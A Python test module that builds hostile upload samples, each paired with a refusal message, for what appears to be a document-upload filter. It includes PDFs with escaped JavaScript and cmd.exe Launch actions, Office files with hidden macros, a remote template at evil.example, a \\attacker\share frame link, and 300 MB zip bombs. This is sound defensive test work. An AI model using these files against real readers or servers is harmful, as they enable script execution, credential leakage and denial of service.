"""Hostile uploads, built in code: each a real file of its kind that hides something.

PDFs are written object by object with a true cross-reference (a table, or an XRef stream
when objects sit in an object stream), so that a viewer opens them as the attacker meant;
Office files are ZIPs with their content types and relationships; OLE files (DOC, XLS) are
written as compound files that olefile (and Office) read. `CORPUS` lists every case with the
message the uploader reads (in English).
"""

import io
import struct
import zipfile
import zlib

# PDF ------------------------------------------------------------------------------------------


def pdf(objects: dict[int, bytes], root: int = 1) -> bytes:
    """A PDF of `objects` (number: body, without "obj"), with a classic xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += (
            b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
        )
    out += b"trailer\n<</Size %d /Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref)
    return bytes(out)


def catalog(*extra: bytes) -> dict[int, bytes]:
    """A catalog (1) with one blank page (2, 3), plus `extra` entries in the catalog."""
    return {
        1: b"<</Type /Catalog /Pages 2 0 R " + b" ".join(extra) + b">>",
        2: b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
        3: b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]>>",
    }


def pdf_with_object_stream(
    hidden: dict[int, bytes], *catalog_entries: bytes, type_name=b"/Obj#53tm", hex_first=False
) -> bytes:
    """`hidden` objects inside a compressed object stream whose /Type is spelt `type_name`
    (escaped, so a byte search for /ObjStm misses it), listed by an XRef stream, as PDF 1.5+
    writers do; the catalog points at them with `catalog_entries`."""
    objects = catalog(*catalog_entries)
    numbers = sorted(hidden)
    header, body = b"", b""
    for number in numbers:
        header += b"%d %d " % (number, len(body))
        body += hidden[number] + b"\n"
    data = zlib.compress(header + body)
    filters = b"/FlateDecode"
    if hex_first:
        data, filters = data.hex().encode() + b">", b"[/ASCIIHexDecode /FlateDecode]"
    stream_number = max([*objects, *numbers]) + 1
    objects[stream_number] = (
        b"<</Type %s /N %d /First %d /Filter %s /Length %d>>\nstream\n%s\nendstream"
        % (type_name, len(numbers), len(header), filters, len(data), data)
    )
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    xref_number = stream_number + 1
    offsets[xref_number] = len(out)
    rows = b""
    for number in range(xref_number + 1):
        if number in offsets:
            rows += struct.pack(">BIH", 1, offsets[number], 0)
        elif number in hidden:
            rows += struct.pack(">BIH", 2, stream_number, numbers.index(number))
        else:
            rows += struct.pack(">BIH", 0, 0, 65535)
    out += (
        b"%d 0 obj\n<</Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d>>\nstream\n"
        % (xref_number, xref_number + 1, len(rows))
        + rows
        + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


JS_ACTION = b"<</S /JavaScript /JS (app.alert\\(document.cookie\\))>>"

# Office ---------------------------------------------------------------------------------------

CT = "http://schemas.openxmlformats.org/package/2006/content-types"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
DOCUMENT_XML = (
    b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
    b'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>\xd0\xa2\xd0\xbe\xd0\xba\xd1\x82'
    b"\xd0\xbe\xd0\xbc</w:t></w:r></w:p></w:body></w:document>"
)


def content_types(overrides: dict[str, str], main: str = DOCX_MAIN, part="/word/document.xml"):
    items = "".join(f'<Override PartName="{n}" ContentType="{t}"/>' for n, t in overrides.items())
    return (
        f'<?xml version="1.0"?><Types xmlns="{CT}"><Default Extension="rels" ContentType='
        f'"application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
        f'ContentType="application/xml"/><Override PartName="{part}" ContentType="{main}"/>'
        f"{items}</Types>"
    ).encode()


def relationships(*items: tuple[str, str, str | None]) -> bytes:
    """(type, target, target mode) of each relationship."""
    rows = "".join(
        f'<Relationship Id="rId{i}" Type="{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for i, (kind, target, mode) in enumerate(items, start=1)
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{RELS}">{rows}</Relationships>'.encode()


def docx(*, overrides=None, document_rels=(), settings_rels=(), main=DOCX_MAIN, **parts) -> bytes:
    members = {
        "[Content_Types].xml": content_types(overrides or {}, main),
        "_rels/.rels": relationships((f"{OFFICE_RELS}/officeDocument", "word/document.xml", None)),
        "word/document.xml": DOCUMENT_XML,
        "word/settings.xml": b'<?xml version="1.0"?><w:settings xmlns:w="x"/>',
        "word/_rels/document.xml.rels": relationships(
            (f"{OFFICE_RELS}/settings", "settings.xml", None), *document_rels
        ),
        **(
            {"word/_rels/settings.xml.rels": relationships(*settings_rels)} if settings_rels else {}
        ),
        **parts,
    }
    return _zip(members)


def xlsx(*, overrides=None, workbook_rels=(), **parts) -> bytes:
    members = {
        "[Content_Types].xml": content_types(overrides or {}, XLSX_MAIN, "/xl/workbook.xml"),
        "_rels/.rels": relationships((f"{OFFICE_RELS}/officeDocument", "xl/workbook.xml", None)),
        "xl/workbook.xml": b'<?xml version="1.0"?><workbook xmlns="x"><sheets/></workbook>',
        "xl/_rels/workbook.xml.rels": relationships(*workbook_rels),
        **parts,
    }
    return _zip(members)


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_bomb_docx(unpacked_mb: int = 300) -> bytes:
    """A valid DOCX of a few hundred KB whose document.xml unpacks to `unpacked_mb` MB
    (written in chunks, so building it takes little memory)."""
    paragraph = b"<w:p><w:r><w:t>" + b"A" * 4000 + b"</w:t></w:r></w:p>"
    return _bomb(
        {"[Content_Types].xml": content_types({}),
         "_rels/.rels": relationships((f"{OFFICE_RELS}/officeDocument", "word/document.xml",
                                       None))},
        "word/document.xml",
        b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
        b'wordprocessingml/2006/main"><w:body>',
        paragraph * 256, b"</w:body></w:document>", unpacked_mb,
    )  # fmt: skip


def zip_bomb_xlsx(unpacked_mb: int = 300) -> bytes:
    """An XLSX whose shared strings unpack to `unpacked_mb` MB (openpyxl reads them whole)."""
    xml = b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
    xml += b'2006/main">'
    return _bomb(
        {"[Content_Types].xml": content_types({}, XLSX_MAIN, "/xl/workbook.xml"),
         "_rels/.rels": relationships((f"{OFFICE_RELS}/officeDocument", "xl/workbook.xml",
                                       None)),
         "xl/workbook.xml": b'<?xml version="1.0"?><workbook xmlns="x"><sheets/></workbook>'},
        "xl/sharedStrings.xml", xml, (b"<si><t>" + b"A" * 4000 + b"</t></si>") * 256,
        b"</sst>", unpacked_mb,
    )  # fmt: skip


def _bomb(members, name, head, chunk, tail, repeat) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, data in members.items():
            archive.writestr(member, data)
        with archive.open(name, "w", force_zip64=True) as out:
            out.write(head)
            for _ in range(repeat):
                out.write(chunk)
            out.write(tail)
    return buffer.getvalue()


# OLE (DOC, XLS) -------------------------------------------------------------------------------

SECTOR = 512
FREE, END, FAT_SECTOR, NO_STREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def ole(streams: dict[str, bytes], storages: tuple[str, ...] = ()) -> bytes:
    """A compound file (the directory in sector 0, the FAT in sector 1) with `streams` (each
    padded to 4096 bytes, so no mini stream) and empty `storages`, all at the root, siblings
    in a chain."""
    streams = {name: data.ljust(4096, b"\0") for name, data in streams.items()}
    entries = [(name, 2, data) for name, data in streams.items()]
    entries += [(name, 1, b"") for name in storages]
    fat, sector = [END, FAT_SECTOR], 2  # sector 0: the directory, 1: the FAT
    starts = []
    for _name, _kind, data in entries:
        count = -(-len(data) // SECTOR)
        starts.append(sector if count else END)
        fat += [sector + i + 1 for i in range(count - 1)] + ([END] if count else [])
        sector += count
    directory = _dir_entry("Root Entry", 5, child=1 if entries else NO_STREAM, start=END, size=0)
    for index, ((name, kind, data), start) in enumerate(zip(entries, starts, strict=True)):
        sibling = index + 2 if index + 1 < len(entries) else NO_STREAM
        directory += _dir_entry(name, kind, right=sibling, start=start, size=len(data))
    directory = directory.ljust(SECTOR, b"\0")
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
        # directory sectors, FAT sectors, first directory sector, transaction, mini cutoff,
        # first mini FAT, mini FAT sectors, first DIFAT sector, DIFAT sectors
        + struct.pack("<IIIIIIIII", 0, 1, 0, 0, 4096, END, 0, END, 0)
        + struct.pack("<I", 1) + struct.pack("<I", FREE) * 108
    )  # fmt: skip
    fat_sector = b"".join(struct.pack("<I", value) for value in fat).ljust(SECTOR, b"\xff")
    return header + directory + fat_sector + b"".join(data for _n, _k, data in entries)


def _dir_entry(name, kind, *, left=NO_STREAM, right=NO_STREAM, child=NO_STREAM, start, size):
    encoded = name.encode("utf-16-le") + b"\0\0"
    return (
        encoded.ljust(64, b"\0") + struct.pack("<HBB", len(encoded), kind, 1)
        + struct.pack("<III", left, right, child) + bytes(16) + bytes(4) + bytes(16)
        + struct.pack("<IIi", start, size, 0)
    )  # fmt: skip


def biff_sheets(*kinds: int) -> bytes:
    """A workbook stream with a BOF and one BOUNDSHEET record per sheet type (0 worksheet,
    1 Excel 4 macro sheet)."""
    records = struct.pack("<HH", 0x0809, 16) + bytes(16)
    for number, kind in enumerate(kinds):
        name = f"S{number}".encode()
        data = struct.pack("<IBB", 0, 0, kind) + bytes([len(name), 0]) + name
        records += struct.pack("<HH", 0x0085, len(data)) + data
    return records + struct.pack("<HH", 0x000A, 0)


# The corpus -----------------------------------------------------------------------------------

JS = (
    "This PDF contains JavaScript, which we do not accept. Save it again without scripts "
    "(Print → Save as PDF) and upload it."
)
LAUNCH = (
    "This PDF contains embedded files or actions that launch programs, which we do not "
    "accept. Save it again without them (Print → Save as PDF) and upload it."
)
XFA = (
    "This PDF is an XFA form, which can run scripts; we do not accept it. Save it again as a "
    "plain PDF (Print → Save as PDF) and upload it."
)
RICH_MEDIA = (
    "This PDF contains Flash or other rich media, which we do not accept. Save it again "
    "without it (Print → Save as PDF) and upload it."
)
AUTOMATIC = (
    "This PDF runs actions by itself when it is opened or read, which we do not accept. Save "
    "it again without them (Print → Save as PDF) and upload it."
)


def active(what: str) -> str:
    return (
        f"This file contains {what}, which could run on readers' computers. Save it again "
        "without it (for example, print it to PDF) and upload the new file."
    )


def outside(target: str, template=False) -> str:
    if template:
        return (
            f"This file loads its template from outside the file ({target}) when it is "
            "opened, which we do not accept. Attach no template, save it again and upload the "
            "new file."
        )
    return (
        f"This file loads content from outside the file ({target}) when it is opened, which "
        "we do not accept. Remove the link (links in the text are fine), save it again and "
        "upload the new file."
    )


def mismatch(declared: str, actual: str) -> str:
    return (
        f"This file is not a {declared}: its content is {actual}. "
        "Upload the document as PDF, DOCX, ODT, XLSX or ODS."
    )


VBA_TYPE = "application/vnd.ms-office.vbaProject"
TEMPLATE = "http://evil.example/normal.dotm"
MACRO_OLE = ole({"PROJECT": b"ID=x"}, storages=("VBA",))

#: (case, file name, builder, message). Builders are called by the test, so the corpus is
#: built only when used.
CORPUS = [
    # PDF: what a parser sees and a byte search does not
    ("pdf-js-in-escaped-object-stream", "act.pdf",
     lambda: pdf_with_object_stream({5: JS_ACTION}, b"/OpenAction 5 0 R"), JS),
    ("pdf-js-in-hex-and-flate-object-stream", "act.pdf",
     lambda: pdf_with_object_stream({5: JS_ACTION}, b"/OpenAction 5 0 R", hex_first=True), JS),
    ("pdf-js-named-with-escapes", "act.pdf",
     lambda: pdf(catalog(b"/OpenAction <</S /J#61va#53cript /J#53 (app.alert\\(1\\))>>")), JS),
    ("pdf-document-level-js", "act.pdf",
     lambda: pdf({**catalog(b"/Names 4 0 R"), 4: b"<</JavaScript 5 0 R>>",
                  5: b"<</Names [(x) 6 0 R]>>", 6: JS_ACTION}), JS),
    ("pdf-launch-escaped", "act.pdf",
     lambda: pdf(catalog(b"/OpenAction <</S /L#61unch /F (cmd.exe)>>")), LAUNCH),
    ("pdf-embedded-files", "act.pdf",
     lambda: pdf_with_object_stream({5: b"<</EmbeddedFiles 6 0 R>>", 6: b"<</Names []>>"},
                                    b"/Names 5 0 R"), LAUNCH),
    ("pdf-xfa-form", "act.pdf",
     lambda: pdf(catalog(b"/AcroForm <</Fields [] /XFA 4 0 R>>") | {4: b"[(template) 5 0 R]",
                                                                     5: b"<<>>"}), XFA),
    ("pdf-rich-media", "act.pdf",
     lambda: pdf(catalog() | {3: b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
                                 b"/Annots [<</Subtype /RichMedia /Rect [0 0 9 9]>>]>>"}),
     RICH_MEDIA),
    ("pdf-open-action-to-a-website", "act.pdf",
     lambda: pdf(catalog(b"/OpenAction <</S /URI /URI (http://evil.example/)>>")), AUTOMATIC),
    ("pdf-page-additional-actions", "act.pdf",
     lambda: pdf(catalog() | {3: b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
                                 b"/AA <</O <</S /URI /URI (http://evil.example/)>>>>>>"}),
     AUTOMATIC),
    # Office: macros under any name, macro sheets, remote templates, external targets
    ("docx-renamed-vba-part-by-content-type", "act.docx",
     lambda: docx(overrides={"/word/media/image1.png": VBA_TYPE},
                  **{"word/media/image1.png": MACRO_OLE}), active("macros")),
    ("docx-renamed-vba-part-by-relationship", "act.docx",
     lambda: docx(document_rels=[("http://schemas.microsoft.com/office/2006/relationships/"
                                  "vbaProject", "media/logo.emf", None)],
                  **{"word/media/logo.emf": b"x"}), active("macros")),
    ("docx-ole-part-with-vba-storage", "act.docx",
     lambda: docx(**{"word/embeddings/oleObject1.bin": MACRO_OLE}), active("macros")),
    ("docm-saved-as-docx", "act.docx",
     lambda: docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
     active("macros")),
    ("docx-remote-template", "act.docx",
     lambda: docx(settings_rels=[(f"{OFFICE_RELS}/attachedTemplate", TEMPLATE, "External")]),
     outside(TEMPLATE, template=True)),
    ("docx-external-frame", "act.docx",
     lambda: docx(document_rels=[(f"{OFFICE_RELS}/frame", "\\\\attacker\\share", "External")]),
     outside("\\\\attacker\\share")),
    ("docx-activex", "act.docx",
     lambda: docx(overrides={"/word/x/a.xml": "application/vnd.ms-office.activeX+xml"}),
     active("ActiveX controls")),
    ("xlsx-xlm-macro-sheet", "budget.xlsx",
     lambda: xlsx(overrides={"/xl/m/s.xml": "application/vnd.ms-excel.macrosheet+xml"}),
     active("macros")),
    ("xls-xlm-macro-sheet", "budget.xls",
     lambda: ole({"Workbook": biff_sheets(0, 1)}), active("macros")),
    ("xls-vba", "budget.xls",
     lambda: ole({"Workbook": biff_sheets(0), "_VBA_PROJECT_CUR": b"x"}), active("macros")),
    ("doc-macros-storage", "act.doc",
     lambda: ole({"WordDocument": b"x"}, storages=("Macros",)), active("macros")),
    ("docx-zip-bomb", "act.docx", lambda: zip_bomb_docx(300), None),
    # Refused before these checks too: kept here so the corpus is whole
    ("html-named-pdf", "report.pdf", lambda: b"<!doctype html><script>alert(1)</script>",
     mismatch("PDF", "HTML")),
    ("program-named-docx", "report.docx", lambda: b"MZ\x90\x00\x03" + bytes(200),
     mismatch("DOCX", "a program")),
    ("docx-vbaproject-bin", "act.docx", lambda: docx(**{"word/vbaProject.bin": MACRO_OLE}),
     active("macros")),
    ("odt-basic-macros", "act.odt",
     lambda: _zip({"mimetype": b"application/vnd.oasis.opendocument.text",
                   "content.xml": b"<x/>", "Basic/Standard/Module1.xml": b"x"}),
     active("macros")),
    ("rtf-embedded-object", "letter.rtf", lambda: b"{\\rtf1{\\object\\objemb{\\*\\objdata 01}}}",
     active("embedded objects")),
]  # fmt: skip

#: Files of the same kinds that carry nothing active: links, a view to open at, worksheets.
HARMLESS = [
    ("pdf-open-at-a-page", "act.pdf", lambda: pdf(catalog(b"/OpenAction [3 0 R /Fit]"))),
    ("pdf-open-with-goto", "act.pdf",
     lambda: pdf(catalog(b"/OpenAction <</S /GoTo /D [3 0 R /Fit]>>"))),
    ("pdf-link-to-a-website", "act.pdf",
     lambda: pdf(catalog() | {3: b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots "
                                 b"[<</Subtype /Link /A <</S /URI /URI (https://e.kg/)>>>>]>>"})),
    ("pdf-object-stream", "act.pdf",
     lambda: pdf_with_object_stream({5: b"<</Title (x)>>"}, b"/Info 5 0 R")),
    ("docx-hyperlink", "act.docx",
     lambda: docx(document_rels=[(f"{OFFICE_RELS}/hyperlink", "https://e.kg/", "External")])),
    ("xls-worksheets", "budget.xls", lambda: ole({"Workbook": biff_sheets(0, 0)})),
    ("doc", "act.doc", lambda: ole({"WordDocument": b"x"})),
]  # fmt: skip
